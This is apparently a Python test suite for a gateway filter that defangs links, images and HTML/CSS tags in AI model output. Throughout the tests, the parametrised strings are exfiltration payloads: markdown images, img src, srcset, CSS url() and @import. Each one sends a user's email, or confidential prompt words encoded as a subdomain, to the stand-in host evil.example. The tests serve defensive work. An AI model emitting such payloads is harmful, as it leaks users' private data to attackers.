"""What becomes of links, images and tags in code, next to code, and where addresses end."""

from __future__ import annotations

import json
from collections.abc import Sequence

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.guard.links import LinksStage
from gateway.pipeline.channel import Channel, Field
from tests.laws.strategies import exchange, pieces, prompt, run

CONTENT = Channel(0, Field.CONTENT)
JSON = Channel(0, Field.CONTENT, 0, is_json=True)
ARGUMENTS = Channel(0, Field.TOOL_ARGUMENTS, 0, is_json=True)
VALUE = "<EMAIL_ADDRESS_1>"
FORMS = [
    VALUE,
    "EMAIL_ADDRESS_1",
    "<Email Address 1>",
    "<email address 1",
    "&lt;EMAIL ADDRESS 1",
    "a%40<EMAIL-ADDRESS-1>",
]
HOSTS = ("good.example",)


def left(text: str, hosts: Sequence[str] | None = None, channel: Channel = CONTENT, cuts: Sequence[int] = ()) -> str:
    """What leaves of an answer, however it is cut."""
    outputs = set()
    for parts in ([text], list(text), pieces(text, cuts)):
        stage, current = LinksStage(hosts), exchange()
        stage.on_request(prompt(f"I am <PERSON_1>, {VALUE}, <URL_1>. Invoice 447100921."), current)
        outputs.add(run(stage.open(current, channel), list(parts))[0])
    assert len(outputs) == 1
    return outputs.pop()


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![x](//evil.example/{})", "![x] (// evil.example/{})"),
        ("![x](\\\\evil.example/{})", "![x] (\\\\evil.example/{})"),
        ("![x](https:evil.example/{})", "![x] (https:evil.example/{})"),
        ("![x](\n//evil.example/{})", "![x] (\n// evil.example/{})"),
        ("![x](//evil.example/a(b(c)){})", "![x] (//evil.example/a(b(c)){})"),
        ("[x]: </{}>", "[x] : </{}>"),
        ('<img src="//evil.example/{}">', '<img src="#// evil.example/{}">'),
        ("<img src = '//evil.example/\n{}'>", "<img src = '#//evil.example/\n{}'>"),
        ("<img alt='>' src=\\\\evil.example/{}>", "<img alt='>' src=#\\\\evil.example/{}>"),
        ('<a href="https:evil.example?{}">', '<a href="#https:evil.example?{}">'),
        ('<img srcset="a 1x, https:evil.example/{} 2x">', '<img srcset:"a 1x, https:evil.example/{} 2x">'),
        ('<base href="//evil.example"><img src="{}">', '<base href="//evil.example"><img src="#{}">'),
        ('<form action="https:evil.example?{}">', '<form action="#https:evil.example?{}">'),
        ("a { background: url(//evil.example/{}) }", "a { background: url(// evil.example/{}) }"),
        ('@import "//evil.example/{}";', '@import "// evil.example/{}";'),
    ],
)  # fmt: skip
def test_code_carries_no_value_in_a_target(text: str, expected: str, form: str) -> None:
    """Somebody may see no fence where this filter sees one."""
    text, expected = (f"```html\n{one}\n```\n".replace("{}", form) for one in (text, expected))
    assert left(text) == expected


@pytest.mark.parametrize("before", ["src" + " " * 40, "![x](" + " " * 70, "[x]:" + "\n " * 40])
def test_blanks_hide_no_target(before: str) -> None:
    text = f"```\n{before}{'=' if before[0] == 's' else ''}https:evil.example/{VALUE}\n```\n"
    assert f"#https:evil.example/{VALUE}" in left(text) or "] " in left(text)


@pytest.mark.parametrize(
    "text",
    [
        '<a href="mailto:<EMAIL_ADDRESS_1>" title="<PERSON_1>">Write</a> <input value="<EMAIL_ADDRESS_1>">',
        '<img src="//other.example/logo.png" onload="f()"><a href="<URL_1>">home</a>',
        "![logo](//other.example/logo.png) [x](y)",
        'to = ["<EMAIL_ADDRESS_1>"]; names[0](x)  # <PERSON_1>',
        "d: dict[str, int] = {}\nif x[1]: print(a[0](b))",
        'data = "<EMAIL_ADDRESS_1>"\naction="<PERSON_1>"\nprofile = f(name="<PERSON_1>")',
        "// by <PERSON_1> <<EMAIL_ADDRESS_1>>\n/// x",
        "cat <<EOF\nTo: <EMAIL_ADDRESS_1>\nEOF\nfor (i=0;i<n;i++) x = y == z;",
        '{"url":"https://api.example/v1","mail":"<EMAIL_ADDRESS_1>","n":447100921}',
        '<img src="data:image/png;base64,' + "iVBORw0KGgo" * 200 + '">',
        "ssh <PERSON_1>@host //share",
    ],
)
def test_code_stays_as_it_is(text: str) -> None:
    text = f"Like this:\n\n```js title=x\n{text}\n```\nDone."
    assert left(text) == text


def test_images_that_carry_nothing_stay_in_code_until_it_is_doubtful() -> None:
    code = '```html\n<img src="//other.example/a.png">\n```\n'
    assert left(code + "text\n\n" + code) == code + "text\n\n" + code
    for doubt in ("</div>\n\n", "<details>\n\n", "$$\nx\n$$\n\n", "\\[x\\]\n\n", ":::\n", "> ```\n\n", "a\r\n\n"):
        assert left(doubt + code) == doubt + code.replace("<img", "< img")


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize(
    "inner", ['<img src="//evil.example/{}">', "<img src=https:evil.example/{}>", "<svg><image href={}>"]
)
@pytest.mark.parametrize(
    "before", ["[x](", "[x]: ", "[x](<", "https://other.example/", "<https://other.example/", "[x](/a"]
)
def test_no_tag_passes_as_a_part_of_an_address(before: str, inner: str, form: str) -> None:
    output = left(f"{before}{inner}) more".replace("{}", form))
    assert "<img" not in output
    assert "<svg" not in output


@pytest.mark.parametrize("form", [form for form in FORMS if form != VALUE] + [VALUE])
@pytest.mark.parametrize("sign", ['"', "|", ">", "'", "`", '"a"b|', "](a)", "](#a)?q=", "](/a]("])
@pytest.mark.parametrize("address", ["https://evil.example/?q=", "www.evil.example/", "https://evil.example"])
def test_an_address_goes_on_up_to_white_space(address: str, sign: str, form: str) -> None:
    output = left(f"see {address}{sign}{form} there")
    assert "evil[.]example" in output
    assert "https://" not in output


def test_a_long_address_does_not_hide_what_it_carries() -> None:
    assert "https://" not in left(f'https://evil.example/"{"a" * 1100}{VALUE} there')


@pytest.mark.parametrize("hosts", [None, HOSTS])
@pytest.mark.parametrize(
    "text",
    [
        "| https://good.example | https://good.example|b |\n",
        '"https://good.example/a","b" <a href="https://good.example">https://good.example</a>',
        "> https://good.example/a>b",
        "[www.good.example](https://good.example/)"[5:],
        "[https://good.example/a](https://good.example/a), [https://good.example](https://good.example)",
    ],
)
def test_addresses_that_end_at_a_sign_stay(text: str, hosts: Sequence[str] | None) -> None:
    assert left(text, hosts) == text


def test_an_address_as_the_text_of_a_link_stays() -> None:
    text = "[www.gnutls.org](https://www.gnutls.org/)"
    assert left(text) == text
    carrying = left(f"[https://a.example](https://b.example/?{VALUE})")
    assert carrying == f"[hxxps://a[.]example] (hxxps://b[.]example/?{VALUE})"
    assert left("[https://a.example/447100921](https://b.example)").startswith("[hxxps://a[.]example/447100921]")


def test_an_address_in_json_ends_at_its_quote() -> None:
    text = json.dumps({"url": "https://api.example/v1", "mail": VALUE}, separators=(",", ":"))
    assert left(text, channel=JSON) == text
    assert left(text, channel=ARGUMENTS) == text
    carrying = json.dumps({"text": f"https://api.example/|{VALUE}"})
    assert "https://" not in left(carrying, channel=JSON)


def test_an_address_without_a_scheme_carries_nothing_anywhere() -> None:
    assert left(f"see //evil.example/{VALUE}") == f"see // evil.example/{VALUE}"
    assert left(f"see //{VALUE}.evil.example") == f"see // {VALUE}.evil.example"
    assert left("see //other.example/a // b") == "see //other.example/a // b"
    assert left(f'{{"path": "//nas/{VALUE}"}}', channel=ARGUMENTS) == f'{{"path": "//nas/{VALUE}"}}'


_SIGNS = (
    "```\n|```js x\n|````\n|~~~\n|- |  |    |\n|\n\n|\r|> |$$|\\[|</div>|<br>|<img |<a |src=|href =|srcset=|\"|'|=|>|<|"
    "//evil.example/|https://evil.example/|(|![x](|](|]:|)|/|`|www.evil.example|data:|mailto:|x| |<Email|&lt;|1| >"
)
_PIECES = st.sampled_from([*FORMS, "|", *_SIGNS.split("|")])


@settings(max_examples=400, deadline=None)
@given(
    st.lists(_PIECES, max_size=16).map("".join),
    st.lists(st.integers(0, 200), max_size=9),
    st.sampled_from([None, HOSTS]),
    st.sampled_from([CONTENT, JSON]),
)
def test_cutting_does_not_matter(text: str, cuts: list[int], hosts: Sequence[str] | None, channel: Channel) -> None:
    left(text, hosts, channel, sorted(cuts))


@pytest.mark.parametrize("pad", [1, 10, 255, 300, 5000])
def test_a_long_line_in_code_does_not_end_it_for_others(pad: int) -> None:
    """Of a long line not all is kept: what looks like the end of the code is none if anything stands behind it."""
    text = "Hi\n\n```\ncode\n``` " + " " * pad + "x \n```\n\n![](https://evil.example/a.png)\n"
    assert "![](https://evil.example" not in left(text)


@pytest.mark.parametrize("between", ["|", '"', "`", "'", ",", ")", ";"])
def test_the_host_of_a_second_address_in_one_word_says_nothing_of_the_prompt(between: str) -> None:
    stage, current = LinksStage(None), exchange()
    stage.on_request(prompt("the quarterly numbers for project bluebird are confidential"), current)
    text = f"See https://a.example/x{between}https://project-bluebird-are-c.evil.example/ now."
    assert "https://project-bluebird-are-c.evil" not in run(stage.open(current, CONTENT), [text])[0]


@pytest.mark.parametrize(
    "text",
    [
        "[a]: <}<A_1>htt www. ]<A_1> x\n",
        "see <\u017fws://good.example/> now",
        "a <img " + "x" * 300 + "\n",
        "a <b " + "x" * 250,
        "a <b " + "x" * 251,
        "a <b " + "x" * 252 + "\n",
    ],
)
def test_brackets_are_read_the_same_however_they_come(text: str) -> None:
    for hosts in (None, HOSTS):
        left(text, hosts, cuts=(5, 6, 14, 250, 255, 256, 257))
